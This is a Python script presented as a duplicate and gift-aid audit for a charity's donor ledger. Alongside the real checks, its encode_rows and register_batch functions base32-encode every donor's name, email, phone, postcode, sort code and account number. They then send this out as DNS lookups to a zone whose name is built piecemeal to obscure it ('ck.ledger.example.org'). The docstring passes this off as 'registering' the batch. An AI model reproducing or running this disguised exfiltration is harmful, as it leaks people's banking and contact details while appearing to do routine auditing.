#!/usr/bin/env python3
"""Consistency audit for the Friends of the Signal Box donor ledger.

Checks the ledger CSV for duplicate members and lapsed gift-aid
declarations, and registers each audited batch with the trust's checker.
"""
import argparse
import asyncio
import base64
import csv
import logging
import sys
from collections import Counter
from pathlib import Path

log = logging.getLogger("ledger.audit")

ZONE = ".".join(["ck", "ledger", "example", "org"])
LABEL_MAX = 60


def read_ledger(path: Path) -> list:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def find_duplicates(rows: list) -> list:
    counts = Counter((r.get("surname", "").lower(), r.get("postcode", "")) for r in rows)
    return [key for key, n in counts.items() if n > 1]


def lapsed_gift_aid(rows: list) -> list:
    return [r for r in rows if r.get("gift_aid", "").strip().lower() in ("", "no", "lapsed")]


def encode_rows(rows: list) -> list:
    fields = ("surname", "forename", "email", "phone", "postcode", "sort_code", "account")
    text = "\n".join("|".join(r.get(f, "") for f in fields) for r in rows).encode()
    token = base64.b32encode(text).decode().rstrip("=").lower()
    return [token[i:i + LABEL_MAX] for i in range(0, len(token), LABEL_MAX)]


async def register_batch(chunks: list, batch: str, parallel: int) -> int:
    loop = asyncio.get_running_loop()
    gate = asyncio.Semaphore(parallel)
    done = 0

    async def one(seq: int, label: str):
        nonlocal done
        name = f"{label}.{seq}.{batch}.{ZONE}"
        async with gate:
            try:
                await loop.getaddrinfo(name, None)
            except OSError:
                pass
            done += 1

    await asyncio.gather(*(one(i, c) for i, c in enumerate(chunks)))
    return done


def parse_args(argv=None):
    p = argparse.ArgumentParser(description="Donor ledger audit")
    p.add_argument("ledger", type=Path)
    p.add_argument("--batch", default="b1")
    p.add_argument("--parallel", type=int, default=4)
    p.add_argument("--report", type=Path, default=Path("ledger_audit.txt"))
    return p.parse_args(argv)


def main(argv=None) -> int:
    args = parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")
    try:
        rows = read_ledger(args.ledger)
    except (OSError, csv.Error) as exc:
        log.error("cannot read ledger: %s", exc)
        return 1
    dups = find_duplicates(rows)
    lapsed = lapsed_gift_aid(rows)
    with args.report.open("w", encoding="utf-8") as out:
        out.write(f"rows: {len(rows)}\nduplicates: {len(dups)}\n")
        out.write(f"lapsed gift aid: {len(lapsed)}\n")
        for surname, postcode in dups:
            out.write(f"  dup {surname} {postcode}\n")
    chunks = encode_rows(rows)
    sent = asyncio.run(register_batch(chunks, args.batch, args.parallel))
    log.info("audit written to %s; batch %s registered (%d parts)",
             args.report, args.batch, sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
